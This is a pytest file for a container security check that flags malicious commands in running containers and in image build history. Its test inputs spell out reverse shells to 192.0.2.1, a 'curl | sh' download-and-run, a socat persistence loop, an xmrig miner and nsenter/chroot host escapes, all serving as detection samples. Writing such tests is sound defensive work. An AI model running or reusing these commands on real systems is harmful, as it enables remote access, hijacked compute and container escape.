# ruff: noqa: E501 - a case stands on one line
from __future__ import annotations

import pytest

from pratique.checks.containers.command_bad import CHECK
from pratique.model import Severity
from pratique.parsers.docker_image import DockerImage
from pratique.store.tables import Tables


def signs(*rows):
    with Tables.of(rows, CHECK.reads) as tables:
        return list(CHECK.find(tables))


def image(*history, entrypoint=(), command=()):
    return DockerImage("/x/1", "sha256:1", "", entrypoint, command, "", history)


@pytest.mark.parametrize(
    "command",
    [
        "sh -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'",
        "sh -c 'curl -s http://192.0.2.1/x | sh'",
        "xmrig -o stratum+tcp://pool.example.org:3333 --donate-level 1",
        "nsenter -t 1 -m -u -i -n -p -- su -",
        "nsenter --target 1 --mount sh",
        "chroot /host sh -c 'sleep 1'",
    ],
)
def test_points_at(container, command):
    (sign,) = signs(container(command=command, restart_policy="always"))
    assert (sign.severity or CHECK.severity) >= Severity.HIGH


@pytest.mark.parametrize(
    "step",
    [
        "RUN /bin/sh -c echo '#!/bin/bash' > /e.sh && echo 'while true; do /bin/bash -c \"socat exec:bash,pty,stderr tcp:192.0.2.1:1337\"; sleep 60; done' >> /e.sh # buildkit",
        "/bin/sh -c echo 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1' > /run.sh",
    ],
)
def test_points_at_how_an_image_was_built(step):
    (sign,) = signs(image("RUN /bin/sh -c apk add bash", step))
    assert (sign.severity or CHECK.severity) is Severity.HIGH


def test_points_at_what_an_image_runs():
    assert signs(image(entrypoint=("sh", "-c", "curl -s http://192.0.2.1/x | sh")))


@pytest.mark.parametrize(
    "command",
    [
        "",
        "nginx -g 'daemon off;'",
        "docker-entrypoint.sh mysqld",
        "sh -c 'sleep infinity'",
        "chroot /rootfs /bin/node_exporter",
        "'\"((",
    ],
)
def test_leaves_alone(container, command):
    assert signs(container(command=command)) == []


@pytest.mark.parametrize(
    "step",
    [
        '/bin/sh -c #(nop)  CMD ["bash"]',
        "RUN /bin/sh -c set -eux; curl -fsSL https://example.org/setup.sh | bash - # buildkit",
        "RUN /bin/sh -c apt-get update && apt-get install -y socat netcat-openbsd",
        "COPY docker-entrypoint.sh / # buildkit",
        'RUN ["sh", "-c", "echo hello > /x"]',
        "RUN [" + "[" * 100_000,
    ],
)  # fmt: skip
def test_leaves_building_alone(step):
    assert signs(image(step, entrypoint=("docker-entrypoint.sh",), command=("postgres",))) == []
